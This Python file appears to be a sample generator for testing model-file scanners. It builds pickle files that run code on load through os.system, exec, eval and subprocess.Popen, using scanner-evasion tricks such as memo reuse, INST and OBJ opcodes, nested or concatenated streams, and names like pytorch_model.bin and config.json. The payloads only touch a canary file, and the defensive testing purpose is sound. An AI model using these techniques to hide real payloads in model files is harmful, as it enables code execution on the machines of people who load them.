"""Raw pickle streams: every protocol, and the opcode tricks scanners missed."""

from __future__ import annotations

import pickle
from pathlib import Path

from trainguard.samples.assembler import PickleAsm
from trainguard.samples.base import malicious, py_touch, sh_touch

_PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories"
_NULLIFAI = (
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _benign_state() -> dict[str, object]:
    return {"epoch": 3, "lr": 0.001, "weights": [0.5, -0.25, 0.125]}


# -- one per protocol ----------------------------------------------------------


@malicious(
    "pickle-p0-os-system",
    "Protocol 0 pickle calling os.system",
    "GLOBAL os.system + REDUCE, text protocol 0 (no PROTO opcode, no magic)",
)
def p0_os_system(out: Path, canary: Path) -> Path:
    a = PickleAsm(0).global_("os", "system").mark().string(sh_touch(canary)).tuple_().reduce()
    return _write(out / "p0_os_system.pkl", a.stop().getvalue())


@malicious(
    "pickle-p1-posix-system",
    "Protocol 1 pickle calling posix.system",
    "the name pickle itself writes for os.system on Linux, protocol 1 opcodes",
)
def p1_posix_system(out: Path, canary: Path) -> Path:
    a = PickleAsm(1).global_("posix", "system").mark().binunicode(sh_touch(canary))
    a.tuple_().reduce()
    return _write(out / "p1_posix_system.pkl", a.stop().getvalue())


@malicious(
    "pickle-p2-builtins-exec",
    "Protocol 2 pickle calling builtins.exec",
    "exec of Python source, the most common payload on model hubs",
)
def p2_builtins_exec(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("builtins", "exec", py_touch(canary))
    return _write(out / "p2_builtins_exec.pkl", a.stop().getvalue())


@malicious(
    "pickle-p4-builtins-eval",
    "Protocol 4 framed pickle calling builtins.eval",
    "STACK_GLOBAL import inside a FRAME, eval of an expression",
)
def p4_builtins_eval(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4)
    a.short_binunicode("builtins").memoize().short_binunicode("eval").memoize().stack_global()
    a.memoize().short_binunicode(py_touch(canary)).tuple1().reduce()
    return _write(out / "p4_builtins_eval.pkl", a.stop().getvalue(frame=True))


@malicious(
    "pickle-p5-subprocess-popen",
    "Protocol 5 pickle starting subprocess.Popen",
    "a process started with an argv list, no shell",
)
def p5_subprocess_popen(out: Path, canary: Path) -> Path:
    a = PickleAsm(5).proto(5)
    a.short_binunicode("subprocess").short_binunicode("Popen").stack_global()
    a.args(["touch", str(canary)]).reduce()
    return _write(out / "p5_subprocess_popen.pkl", a.stop().getvalue(frame=True))


@malicious(
    "pickle-inst-os-system",
    "INST opcode calling os.system",
    "INST imports and calls in one opcode (no GLOBAL/REDUCE pair to match)",
)
def inst_os_system(out: Path, canary: Path) -> Path:
    a = PickleAsm(0).mark().string(sh_touch(canary)).inst("os", "system")
    return _write(out / "inst_os_system.pkl", a.stop().getvalue())


@malicious(
    "pickle-obj-popen",
    "OBJ opcode starting subprocess.Popen",
    "OBJ calls the first item after MARK with the rest (no REDUCE)",
)
def obj_popen(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).mark().global_("subprocess", "Popen")
    a.push(["touch", str(canary)]).obj()
    return _write(out / "obj_popen.pkl", a.stop().getvalue())


# -- operand tricks --------------------------------------------------------------


@malicious(
    "pickle-stack-global-memo",
    "STACK_GLOBAL operands fetched from the memo",
    "module and name are stored, popped, then recalled with BINGET and "
    "LONG_BINGET, so they are not the two opcodes before STACK_GLOBAL",
    advisory="https://github.com/mmaitre314/picklescan/issues/22",
)
def stack_global_memo(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4)
    a.short_binunicode("builtins").binput(1).pop()
    a.short_binunicode("exec").long_binput(300).pop()
    a.short_binunicode("harmless").pop()
    a.binget(1).long_binget(300).stack_global()
    a.short_binunicode(py_touch(canary)).tuple1().reduce()
    return _write(out / "stack_global_memo.pkl", a.stop().getvalue())


@malicious(
    "pickle-string-opcode-names",
    "STACK_GLOBAL fed by protocol-0 STRING opcodes",
    "STRING (not a unicode opcode) pushes the module and name",
    advisory=f"{_PICKLESCAN}/GHSA-9gvj-pp9x-gcfr",
)
def string_opcode_names(out: Path, canary: Path) -> Path:
    a = PickleAsm(0).string("os").string("system").stack_global()
    a.string(sh_touch(canary)).tuple1().reduce()
    return _write(out / "string_opcode_names.pkl", a.stop().getvalue())


@malicious(
    "pickle-memo-overwrite",
    "Memo slot overwritten before STACK_GLOBAL reads it",
    "memo[1] first holds 'len', then is overwritten with 'exec'; a scanner "
    "that remembers the first PUT sees builtins.len",
    advisory="https://github.com/protectai/modelscan/issues/85",
)
def memo_overwrite(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4)
    a.short_binunicode("builtins").binput(0).pop()
    a.short_binunicode("len").binput(1).pop()
    a.short_binunicode("exec").binput(1).pop()
    a.binget(0).binget(1).stack_global()
    a.short_binunicode(py_touch(canary)).tuple1().reduce()
    return _write(out / "memo_overwrite.pkl", a.stop().getvalue())


@malicious(
    "pickle-ext1",
    "EXT1 extension code instead of a named global",
    "the callable comes from the loader's copyreg registry; nothing is named "
    "in the file. Fires only where the victim registered code 0xF0",
    fires=False,
    expect="high",
)
def ext1(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).ext1(0xF0).args(sh_touch(canary)).reduce()
    return _write(out / "ext1.pkl", a.stop().getvalue())


@malicious(
    "pickle-nested-loads",
    "pickle.loads of an embedded pickle",
    "the outer pickle only names pickle.loads; the payload is in a bytes argument",
    advisory="https://github.com/protectai/modelscan/issues/267",
)
def nested_loads(out: Path, canary: Path) -> Path:
    inner = PickleAsm(2).proto(2).call("builtins", "exec", py_touch(canary)).stop().getvalue()
    a = PickleAsm(3).proto(3).call("pickle", "loads", inner)
    return _write(out / "nested_loads.pkl", a.stop().getvalue())


# -- stream-level tricks ---------------------------------------------------------


@malicious(
    "pickle-concatenated",
    "Payload in the second of two concatenated pickles",
    "the first pickle is a clean dict; a reader that loads until EOF runs the second",
    loader="pickle-stream",
)
def concatenated(out: Path, canary: Path) -> Path:
    first = pickle.dumps(_benign_state(), protocol=4)
    second = PickleAsm(4).proto(4).call("os", "system", sh_touch(canary)).stop().getvalue()
    return _write(out / "concatenated.pkl", first + second)


@malicious(
    "pickle-trailing-garbage",
    "Payload followed by garbage after STOP",
    "pickle.load stops at STOP and never sees the trailing bytes",
)
def trailing_garbage(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("builtins", "exec", py_touch(canary)).stop()
    a.raw(b"\x00\xffGARBAGE\x93\x93not a pickle" * 4)
    return _write(out / "trailing_garbage.pkl", a.getvalue())


@malicious(
    "pickle-nullifai-broken",
    "nullifAI: payload, then a broken stream",
    "the payload runs at its REDUCE; the stream then hits an invalid opcode, "
    "so the loader raises only after the damage is done",
    advisory=_NULLIFAI,
)
def nullifai_broken(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("builtins", "exec", py_touch(canary)).pop()
    a.empty_dict().str_("weights").raw(b"\xfe\x01\x02")  # 0xfe is not an opcode
    return _write(out / "nullifai_broken.pkl", a.getvalue())


# -- names that hide a plain pickle ---------------------------------------------


@malicious(
    "pickle-named-model-bin",
    "Protocol 0 pickle named pytorch_model.bin",
    "a plain pickle (no zip) under a PyTorch name; torch.load falls back to unpickling it",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-10155",
    loader="torch",
)
def named_model_bin(out: Path, canary: Path) -> Path:
    a = PickleAsm(0).global_("posix", "system").mark().string(sh_touch(canary)).tuple_()
    a.reduce()
    return _write(out / "pytorch_model.bin", a.stop().getvalue())


@malicious(
    "pickle-named-weights-pt",
    "Plain pickle named weights.pt",
    "torch.load reads a non-zip, non-tar file as a legacy pickle",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-10155",
    loader="torch",
)
def named_weights_pt(out: Path, canary: Path) -> Path:
    a = PickleAsm(2).proto(2).call("builtins", "exec", py_touch(canary))
    return _write(out / "weights.pt", a.stop().getvalue())


@malicious(
    "pickle-named-config-json",
    "Pickle named config.json",
    "a scanner that picks files by extension never opens it",
    advisory=f"{_PICKLESCAN}/GHSA-769v-p64c-89pr",
)
def named_config_json(out: Path, canary: Path) -> Path:
    a = PickleAsm(4).proto(4).call("builtins", "exec", py_touch(canary))
    return _write(out / "config.json", a.stop().getvalue(frame=True))
